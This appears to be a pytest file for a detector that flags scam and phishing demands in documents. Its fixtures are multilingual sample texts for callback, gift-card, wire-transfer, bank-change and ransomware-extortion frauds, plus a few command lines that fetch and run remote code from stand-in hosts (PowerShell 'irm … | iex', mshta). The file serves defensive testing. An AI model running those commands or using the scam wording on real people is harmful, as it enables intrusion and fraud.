"""Demands that no honest paper makes, in several languages, and papers that speak of the same matters."""

from __future__ import annotations

import pytest

from safecare.examine.pdf.demands import SIGNS_IN, demanded, sly, undisguised
from safecare.formats.wording import level

DEMANDS = {
    "mail.order.callback": (
        "Your plan has been renewed for $389.99. You did not authorize it? Call us at +1 (8O8) 2I4-7756.",
        "Un achat de 689,00 € sera débité demain. S’il ne s’agit pas de vous, contactez la cellule au 09 73 05 11 28.",
        "Der Betrag von 349,00 € wird abgebucht. Falls Sie dies nicht bestellt haben, rufen Sie an: 0800 180 42 17.",
    ),
    "mail.order.cards": (
        "Pick up 5 gift cards of $200, scratch the panel and send me pictures of the codes.",
        "Achetez 10 cartes cadeaux de 100 €, grattez le code et envoyez-moi les photos.",
    ),
    "mail.order.payment": (
        "This is confidential: make the transfer of EUR 96,400 today and confirm by email only.",
        "Soyez discret : un virement de 62 000 € ce matin, je ne peux pas être joint par téléphone.",
    ),
    "mail.order.new-account": (
        "We have changed banks. All payments go to IBAN LT60 1010 0123 4567 8901; disregard earlier invoices.",
        "Nouvelle banque : réglez nos factures sur l’IBAN BE68 5390 0754 7034, l’ancien compte n’est plus valable.",
    ),
    "mail.order.ransom": (
        "We have copied 430 GB of patient files. Write by Tox within 72 hours or all will be published.",
        "Vos dossiers patients ont été copiés et seront publiés. Ouvrez abcdefghijklmnop234567.onion avec Tor.",
    ),
    "mail.order.contact": ("Like videos for $400 per day, paid in USDT. Write to our recruiter on WhatsApp.",),
}
HONEST = (
    "Invoice of $389.99 for gloves. Questions about this invoice? Call our accounts team on 020 7946 0958.",
    "Votre séjour est confirmé, 240,00 €. Pour annuler, appelez le 02 99 28 43 21 avant le 1er décembre.",
    "Le CSE offre une carte cadeau de 50 € à chaque agent, à retirer au bureau 112.",
    "Les demandes de virement de plus de 5 000 € passent par une double signature et restent confidentielles.",
    "Payez cette facture sur l’IBAN FR76 3000 4000 0312 3456 7890 143 sous 50 jours.",
    "If a message says that files were copied and will be published, and names a Tor address, don't answer.",
    "Rate our hotel after your stay: 120 € per day, with breakfast.",
)


@pytest.mark.parametrize(("fact", "text"), [(fact, text) for fact, texts in DEMANDS.items() for text in texts])
def test_demands_are_told(fact: str, text: str) -> None:
    assert fact in demanded(level(text), set())


@pytest.mark.parametrize("text", HONEST)
def test_papers_on_the_same_matters_make_none(text: str) -> None:
    assert not demanded(level(text), {"mail.lure.fortune"})


def test_a_stranger_shares_a_fortune() -> None:
    told = level("My client bears the same name as you. 40 % are yours: reply in private.")
    assert demanded(told, {"mail.lure.fortune"}) == {"mail.order.stranger", "mail.lure.fortune"}
    assert not demanded(told, set())


def test_numbers_are_read_as_they_are_dialled() -> None:
    assert undisguised("call 1 – 8 3 3 – 4 4 i – o 9 2 2 now") == "call 1 - 8 3 3 - 4 4 1 - 0 9 2 2 now"
    assert undisguised("oil and loo 12 oil") == "oil and loo 12 oil"


@pytest.mark.parametrize(
    ("command", "hides"),
    [
        ("powershell -w h -ep bypass -c x", True),
        ("irm verif.example/a | iex", True),
        ("mshta https://a.example/v.hta", True),
        ("get-adcomputer -filter * | export-csv a.csv", False),
        ("\\\\srv-print.example", False),
    ],
)
def test_commands_that_hide(command: str, hides: bool) -> None:
    assert sly(command) is hides


@pytest.mark.parametrize(
    ("text", "asks"),
    [
        ("Identifiez-vous pour consulter votre facture.", True),
        ("Sign in with your email password to listen.", True),
        ("Acceda con su certificado o contraseña para leerla.", True),
        ("La invitiamo a regolarizzare accedendo con le sue credenziali.", True),
        ("Your results are on our server, the code is on your card.", False),
        ("Vous êtes attendue le 12 décembre au service de cardiologie.", False),
    ],
)
def test_who_has_a_paper_needs_no_account_to_see_it(text: str, asks: bool) -> None:
    assert SIGNS_IN.told(level(text)) is asks
